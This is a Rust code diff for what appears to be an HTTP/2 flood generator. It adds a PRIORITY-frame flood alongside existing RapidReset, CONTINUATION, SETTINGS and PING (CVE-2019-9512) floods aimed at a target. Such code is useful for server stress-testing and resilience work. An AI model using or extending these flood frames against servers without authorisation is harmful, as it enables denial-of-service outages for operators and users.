@@ -24,6 +24,8 @@ pub enum Flood {
     Settings,
     /// PINGs, each of which is to be answered (CVE-2019-9512).
     Ping,
+    /// Priorities, which nothing obeys any more (RFC 9113, section 5.3.2).
+    Priority,
     /// A window for one more byte.
     WindowUpdate,
     /// Frames of an unknown type, which the server must ignore.
@@ -32,12 +34,13 @@ pub enum Flood {
 
 impl Flood {
     /// Every one.
-    pub const ALL: [Self; 7] = [
+    pub const ALL: [Self; 8] = [
         Self::RapidReset,
         Self::Continuation,
         Self::EmptyData,
         Self::Settings,
         Self::Ping,
+        Self::Priority,
         Self::WindowUpdate,
         Self::Unknown,
     ];
@@ -88,6 +91,7 @@ fn unit(peer: &mut Http2Peer, flood: Flood, stream: u32, target: &str) -> Vec<u8
         Flood::EmptyData => Frame::new(kind::DATA, 0, stream, []).encode(),
         Flood::Settings => Frame::settings(&[]).encode(),
         Flood::Ping => Frame::ping(*b"and once").encode(),
+        Flood::Priority => Frame::new(kind::PRIORITY, 0, 1, [0, 0, 0, 0, 16]).encode(),
         Flood::WindowUpdate => Frame::window(0, 1).encode(),
         Flood::Unknown => Frame::new(0xfa, 0xff, 0, *b"anything").encode(),
     }
